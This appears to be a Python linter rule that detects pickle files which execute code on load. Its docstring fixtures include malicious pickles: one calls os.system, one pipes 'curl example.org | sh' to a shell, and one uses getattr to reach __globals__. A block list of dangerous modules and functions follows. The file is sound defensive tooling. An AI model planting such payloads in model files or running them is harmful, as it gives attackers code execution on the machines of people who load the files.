"""A pickle that runs commands, or reaches for what can, when it is loaded.

A pickle is a program: it may import any name and call it, and does so while it is loaded, before anything can look at the result. A model
needs constructors of tensors, arrays and classes; one that imports `os.system` or `eval` is an attack, or a joke. `torch.load`
(with `weights_only=False`, the default before PyTorch 2.6), `joblib.load`, `pickle.load` and `numpy.load(allow_pickle=True)` all run it,
and a pickle that breaks later on has done its work by then. deplint follows the pickle and runs nothing.

```hex bad path=model.pkl line=1
80 04 8c 02 6f 73 8c 06 73 79 73 74 65 6d 93 8c 02 6c 73 85 52 2e
```

The old spelling of the same.

```text bad path=model.pickle line=1
cposix
system
(S'curl example.org | sh'
tR.
```

Reaching for everything through an attribute of what looks harmless.

```hex bad path=model.joblib line=1
80 02 63 62 75 69 6c 74 69 6e 73 0a 67 65 74 61 74 74 72 0a 63 74 6f 72 63 68 0a 6c 6f 61 64 0a 58 0b 00 00 00 5f 5f 67 6c 6f 62 61 6c
73 5f 5f 86 52 2e
```

What models are made of is no finding, nor is a class of one's own, though its code runs as well.

```hex good path=model.pkl
80 02 63 63 6f 6c 6c 65 63 74 69 6f 6e 73 0a 4f 72 64 65 72 65 64 44 69 63 74 0a 29 52 2e
```

```text good path=own.pkl
ccode
Network
)R.
```

A method of a class is pickled with `getattr`, too.

```hex good path=method.pkl
80 02 63 62 75 69 6c 74 69 6e 73 0a 67 65 74 61 74 74 72 0a 63 6e 65 74 73 0a 4e 65 74 0a 58 04 00 00 00 69 6e 69 74 86 52 2e
```

References: the Python documentation of `pickle` ("It is possible to construct malicious pickle data which will execute arbitrary code");
that each of these runs when it is loaded was checked (`tests/claims/test_pickles.py`).
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from fnmatch import fnmatchcase

from deplint import Finding, rule
from deplint.finding import Place
from deplint.formats.pickle_files import PickleFile
from deplint.formats.pickles import Global, Made, Pickle

_OS = (
    "system popen* exec* spawn* posix_spawn* fork* startfile kill* remove* unlink rmdir rename* replace chmod chown link symlink open "
    "write mkdir makedirs putenv environ"
)
_BUILTINS = "eval exec execfile compile open input file apply __import__ breakpoint globals locals"
_PROCESSES = "Popen run call check_call check_output getoutput getstatusoutput popen* fork_exec"
_LOADERS = "load loads Unpickler"

ACTING: Mapping[str, str] = {
    "os": _OS, "posix": _OS, "nt": _OS, "builtins": _BUILTINS, "__builtin__": _BUILTINS,
    "subprocess": _PROCESSES, "commands": _PROCESSES, "popen2": _PROCESSES, "_posixsubprocess": _PROCESSES, "pty": "spawn fork",
    "runpy": "run_* _run_*", "importlib": "import_module __import__ reload util", "imp": "load_* reload", "pkgutil": "resolve_name",
    "pydoc": "locate pipepager", "sys": "modules path meta_path settrace setprofile", "pip": "main _internal",
    "ctypes": "CDLL cdll PyDLL pythonapi WinDLL windll OleDLL oledll LibraryLoader", "ctypes.util": "find_library",
    "pickle": _LOADERS, "_pickle": _LOADERS, "cPickle": _LOADERS, "marshal": _LOADERS, "torch": "load", "torch.serialization": "load",
    "torch.hub": "load*", "torch.utils.cpp_extension": "load*", "joblib": "load", "joblib.numpy_pickle": "load",
    "shutil": "rmtree move copy* chown unpack_archive", "io": "open open_code FileIO", "_io": "open open_code FileIO", "codecs": "open",
    "socket": "socket create_connection create_server", "urllib": "urlopen urlretrieve", "urllib2": "urlopen build_opener",
    "urllib.request": "urlopen urlretrieve build_opener", "requests": "get post put request", "requests.api": "get post put request",
    "http.client": "HTTP*Connection", "httplib": "HTTP*Connection", "ftplib": "FTP*", "smtplib": "SMTP*", "webbrowser": "open*",
    "code": "interact InteractiveInterpreter InteractiveConsole", "codeop": "compile_command", "pdb": "run* set_trace Pdb", "bdb": "Bdb",
    "timeit": "timeit repeat Timer main", "profile": "run runctx", "cProfile": "run runctx", "trace": "Trace",
    "numpy.testing._private.utils": "runstring",
}  # fmt: skip
"""Module -> names that run commands or code, load more of it, or open files and connections. No class of a model is among them."""

HELD = frozenset({"os", "posix", "subprocess", "builtins", "sys", "importlib", "ctypes", "shutil", "runpy", "pickle"})
"""Modules that others hold as an attribute, so that a dotted name leads through them: ``torch.serialization.os.system``."""

REACHING = {
    "__globals__", "__builtins__", "__subclasses__", "__code__", "__class__", "__base__", "__bases__", "__mro__", "__self__", "__func__",
    "__loader__", "__spec__", "__import__", "__getattribute__", "f_globals", "f_builtins", "f_locals", "f_back", "gi_frame", "cr_frame",
    "ag_frame", "tb_frame",
}  # fmt: skip
"""Attributes by which code reaches from an object to everything else."""


@rule(
    "DPL901",
    severity="error",
    leaves=["S.4.2"],
    see=["https://docs.python.org/3/library/pickle.html", "https://docs.pytorch.org/docs/stable/generated/torch.load.html"],
)
def pickle_runs_code(file: PickleFile) -> Iterator[Finding]:
    found = {name: where for where, pickle in file.pickles for name in _acting(pickle)}
    if found:
        names = list(found)
        more = f" and {len(names) - 3} more" if len(names) > 3 else ""
        yield Finding(
            Place(file.place.path, where=found[names[0]]),
            f"loading this file runs code: it imports {', '.join(names[:3])}{more}",
            help="do not load it; find out where it comes from. Weights as safetensors, or weights_only=True, cannot do this",
            count=len(names),
        )


def _acting(pickle: Pickle) -> Iterator[str]:
    """What the pickle imports that no model needs."""
    yield from (str(name) for name in pickle.imports if _acts(f"{name.module}.{name.name}".split(".")))
    for made in pickle.calls:
        if isinstance(made.function, Global) and made.function.name == "getattr" and (attribute := _attribute(made)) in REACHING:
            yield f"getattr for {attribute}"


def _acts(parts: list[str]) -> bool:
    """True for a dotted name that is in `ACTING`, leads to one that is, or reaches for everything."""
    if not REACHING.isdisjoint(parts[1:]) and parts[0] != "__torch__":
        return True
    for start in range(len(parts) - 1):
        for end in range(start + 1, len(parts)):
            module = ".".join(parts[start:end])
            if (start == 0 or module in HELD) and any(fnmatchcase(parts[end], name) for name in ACTING.get(module, "").split()):
                return True
    return False


def _attribute(made: Made) -> str:
    match made.args:
        case (_, str() as attribute, *_):
            return attribute
    return ""
